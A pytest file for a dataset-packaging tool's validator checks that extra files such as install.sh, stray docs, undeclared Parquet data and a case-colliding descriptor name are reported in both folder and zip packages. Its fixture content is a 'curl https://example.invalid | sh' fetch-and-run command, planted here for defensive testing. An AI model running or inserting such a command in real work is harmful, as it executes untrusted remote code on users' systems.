"""A package holds the files corpuskit writes and no others: an extra file, even listed in
the manifests with every checksum made to agree, is reported for the folder and the zip
(an ``install.sh``, a ``docs/`` folder or a ``data/notes.txt`` passed validate)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from _validate_support import built, resign, zip_of
from conftest import DIST, SEED_RELEASE

from corpuskit.validation import validate
from corpuskit.validation.descriptor import descriptor_resources
from corpuskit.validation.layout import TAG_FILES, layout_problems


def _resigned_with(tmp_path: Path, extra: dict[str, bytes]) -> Path:
    package = tmp_path / "folder" / built().release.name
    shutil.copytree(built().release, package)
    for rel, data in extra.items():
        (package / rel).parent.mkdir(parents=True, exist_ok=True)
        (package / rel).write_bytes(data)
    resign(package)
    return package


@pytest.mark.parametrize("rel", ["install.sh", "docs/x.txt", "data/notes.txt",
                                 "data/more/documents.jsonl", "Datapackage.json"])
def test_a_file_corpuskit_does_not_write_is_reported(tmp_path: Path, rel: str) -> None:
    package = _resigned_with(tmp_path, {rel: b"curl https://example.invalid | sh\n"})
    archive = zip_of(package, tmp_path)
    for target in (package, archive):
        for jobs in (1, 2):
            report = validate(target, jobs=jobs)
            found = [(p.path, p.code) for p in report.problems]
            assert (rel, "unexpected-file") in found, (target, report.problems)
            # A name that merges with datapackage.json on other systems is named too.
            assert len(found) == 1 or (rel == "Datapackage.json"
                                       and {code for _, code in found}
                                       == {"unexpected-file", "name-collision"}), found
            assert all("remove it, or restore the package" in p.message
                       for p in report.problems if p.code == "unexpected-file")


def test_records_as_parquet_that_no_resource_declares_are_reported(tmp_path: Path) -> None:
    package = tmp_path / "folder" / SEED_RELEASE.name  # it has Parquet
    shutil.copytree(SEED_RELEASE, package)
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["resources"] = [r for r in descriptor["resources"]
                               if r["name"] != "documents-parquet"]
    (package / "datapackage.json").write_text(json.dumps(descriptor, indent=2) + "\n",
                                              encoding="utf-8")
    resign(package)
    for target in (package, zip_of(package, tmp_path)):
        problems = validate(target, jobs=1).problems
        [undeclared] = [p for p in problems if p.path == "data/documents.parquet"]
        assert undeclared.code == "unexpected-file"
        assert "no resource of datapackage.json declares this file" in undeclared.message
        # croissant.json and the card still describe it: they disagree with the descriptor.
        assert {p.code for p in problems if p is not undeclared} <= {"metadata-mismatch"}


def test_the_files_corpuskit_writes_fit_the_layout() -> None:
    for release in (built().release, *(path for path in DIST.iterdir() if path.is_dir())):
        files = [p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()]
        descriptor = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
        resources, _ = descriptor_resources(descriptor)
        assert layout_problems(files, resources) == []
        assert {rel for rel in files if "/" not in rel and "manifest" not in rel} == TAG_FILES
    # BagIt tools may add manifests of other algorithms: those are BagIt's, not extra files.
    assert layout_problems(["manifest-md5.txt", "tagmanifest-sha512.txt"], []) == []
